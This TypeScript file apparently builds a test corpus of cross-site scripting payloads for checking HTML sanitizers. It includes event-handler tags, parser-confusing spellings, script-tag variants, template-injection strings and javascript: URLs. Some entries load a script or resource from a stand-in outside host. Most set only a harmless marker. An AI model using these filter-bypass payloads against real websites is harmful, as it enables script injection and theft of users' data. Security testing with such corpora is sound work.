// Markup that tries to run a script or to send a request, combined from known browser exploits.

const RUN = 'window.__ran=1';
const OUTSIDE = 'https://outside.example';

const ELEMENTS_WITH_EVENTS: readonly [element: string, event: string][] = [
  ['img src=x', 'onerror'],
  ['img src=/favicon.svg', 'onload'],
  ['svg', 'onload'],
  ['svg/', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe', 'onload'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['video autoplay src=x', 'onloadstart'],
  ['audio src=x', 'onerror'],
  ['marquee', 'onstart'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onerror'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['p style="animation:x 1s"', 'onanimationstart'],
  ['p tabindex=0 autofocus', 'onfocusin'],
  ['x contenteditable autofocus', 'onfocus'],
  ['math tabindex=0 autofocus', 'onfocus'],
];

/** Spellings of the same tag that a careless filter parses differently from a browser. */
const SPELLINGS: readonly ((tag: string, handler: string) => string)[] = [
  (tag, handler) => `<${tag} ${handler}="${RUN}">`,
  (tag, handler) => `<${tag.toUpperCase()} ${handler.toUpperCase()}=${RUN}>`,
  (tag, handler) => `<${tag}\n${handler}\n=\n'${RUN}'>`,
  (tag, handler) => `<${tag} ${handler}=&#119;indow.__ran=1>`,
  (tag, handler) => `"><${tag} ${handler}="${RUN}"><!--`,
  (tag, handler) => `<p title="</p><${tag} ${handler}='${RUN}'>">`,
  (tag, handler) => `<noscript><p title="</noscript><${tag} ${handler}=${RUN}>"></noscript>`,
  (tag, handler) => `<math><mtext><table><mglyph><style><!--</style><${tag} ${handler}=${RUN}>`,
];

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${OUTSIDE}/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${RUN}>`,
  `<svg><foreignObject><script>${RUN}</script></foreignObject></svg>`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  `<template><script>${RUN}</script></template>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
];

const URLS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `//outside.example/x`,
  `${OUTSIDE}/x`,
  `\\\\outside.example\\x`,
];
const WITH_URL: readonly ((url: string) => string)[] = [
  (url) => `<a href="${url}" autofocus>x</a>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<img src="${url}">`,
  (url) => `<form action="${url}"><button autofocus>x</button></form>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<base href="${url}">`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<p style="background:url('${url}')">x</p>`,
  (url) => `<style>@import "${url}";</style>`,
  (url) => `<video poster="${url}"></video>`,
  (url) => `<svg><image href="${url}"/></svg>`,
];

export const CORPUS: readonly string[] = [
  ...ELEMENTS_WITH_EVENTS.flatMap(([tag, event]) => SPELLINGS.map((spell) => spell(tag, event))),
  ...SCRIPTS,
  ...URLS.flatMap((url) => WITH_URL.map((wrap) => wrap(url))),
];

/** The corpus split into texts of at most this length. */
export const inPieces = (max: number): string[] => {
  const pieces: string[] = [];
  for (const one of CORPUS) {
    const last = pieces.at(-1);
    if (last !== undefined && last.length + one.length < max) pieces[pieces.length - 1] = last + one;
    else pieces.push(one.slice(0, max));
  }
  return pieces;
};
